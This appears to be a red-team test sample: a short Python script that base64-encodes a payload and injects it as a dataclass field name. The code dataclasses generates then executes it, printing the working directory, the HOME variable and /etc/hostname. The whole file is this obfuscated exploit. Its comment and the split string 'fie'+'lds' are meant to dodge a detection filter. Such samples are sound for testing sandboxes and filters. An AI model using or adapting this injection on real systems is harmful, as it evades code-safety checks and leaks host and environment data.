# family: red team, round 57b (dataclasses.fields reached through getattr on the module, so the fields() fallback never triggers)
import base64
import dataclasses

CODE = "X19jbGFzc19fLHByaW50KF9faW1wb3J0X18oJ29zJykuZ2V0Y3dkKCksX19pbXBvcnRfXygnb3MnKS5lbnZpcm9uWydIT01FJ10sb3BlbignL2V0Yy9ob3N0bmFtZScpLnJlYWQoKSxfX2ltcG9ydF9fKCdvcycpKQ=="


@dataclasses.dataclass
class A:
    x: int = 0


def main():
    for f in getattr(dataclasses, "fie" + "lds")(A)[:1]:
        f.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
